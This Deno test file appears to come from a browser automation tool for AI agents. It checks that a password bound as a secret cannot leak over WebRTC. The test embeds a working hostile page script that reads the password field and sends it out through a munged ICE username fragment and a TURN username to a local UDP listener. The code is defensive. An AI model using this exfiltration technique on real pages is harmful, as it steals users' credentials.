/**
 * A bound secret must not leave over WebRTC (red team s14 #4): the page munges its offer so the
 * value is the ICE username fragment and adds a host candidate on our UDP listener; the answering
 * connection's STUN checks carried `value:xxxx` in clear (59 datagrams). A TURN server on the
 * listener with the value as its username is the same leak. With secrets bound, browxai starts
 * Chromium with WebRTC's non-proxied UDP turned off: no datagram reaches the listener, and the
 * page's connection gathers no UDP candidate to send one from. (ICE over TCP is not covered:
 * a passive TCP candidate still gets the checks; see the README's secrets section.)
 */
import { createSocket } from "node:dgram";
import { assertEquals } from "./_assert.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { textOf } from "./_mcp.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2SecretXyz";

Deno.test("secrets: WebRTC sends no UDP while secrets are bound", async () => {
  // node:dgram: Deno's own UDP listener is behind --unstable-net.
  const udp = createSocket("udp4");
  const datagrams: string[] = [];
  udp.on("message", (m: Uint8Array) => datagrams.push(new TextDecoder("latin1").decode(m)));
  await new Promise<void>((r) => udp.bind(0, "127.0.0.1", () => r()));
  const port = udp.address().port;
  const srv = startTwoOrigins(() => ({
    "/login": `<title>login</title><input id=pw type=password><script>
pw.addEventListener("input", async () => {
  const v = pw.value;
  if (v.length < ${SECRET.length}) return;
  const p1 = new RTCPeerConnection(); p1.createDataChannel("d");
  const offer = await p1.createOffer();
  let sdp = offer.sdp.replace(/a=ice-ufrag:.*\\r\\n/, "a=ice-ufrag:" + v + "\\r\\n");
  sdp = sdp.replace(/(m=application.*\\r\\n)/,
    "$1a=candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host\\r\\n");
  const p2 = new RTCPeerConnection();
  const turn = new RTCPeerConnection({ iceServers: [{
    urls: "turn:127.0.0.1:${port}?transport=udp", username: v, credential: "x" }] });
  turn.createDataChannel("d");
  window.pcs = [p1, p2, turn];
  const gathered = (pc) => new Promise((r) => {
    if (pc.iceGatheringState === "complete") r();
    pc.addEventListener("icegatheringstatechange", () => pc.iceGatheringState === "complete" && r());
  });
  await turn.setLocalDescription(await turn.createOffer());
  await p2.setRemoteDescription({ type: "offer", sdp });
  await p2.setLocalDescription(await p2.createAnswer());
  await gathered(p2);
  // What it could send from: its local candidates (a UDP one sends the STUN checks).
  const local = [];
  (await p2.getStats()).forEach((s) => s.type === "local-candidate" && local.push(s.protocol));
  document.title = "done " + local.join(",");
});</script>`,
  }));
  const { mcp, close } = await startWithBoundSecret(srv.a, SECRET);
  try {
    await mcp.ok("navigate", { url: `${srv.a}/login`, snapshot: "none" });
    await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    const title = await eventually(
      async () => {
        const t = String((await mcp.ok("get_url")).title);
        return t.startsWith("done") && t;
      },
      20_000,
      "the page's connections to gather",
    );
    // No UDP candidate: no STUN check can go out.
    assertEquals(title.split(/[ ,]/).filter((p) => p === "udp"), [], title);
    assertEquals(datagrams.filter((d) => d.includes(SECRET)), []);
    assertEquals(datagrams.length, 0, "no datagram at all reached the listener");
    // The page ran as it would: its script is not what failed.
    assertEquals(textOf(await mcp.call("console_read", {})).includes("Error"), false);
  } finally {
    await close();
    await srv.close();
    await new Promise<void>((r) => udp.close(() => r()));
  }
});
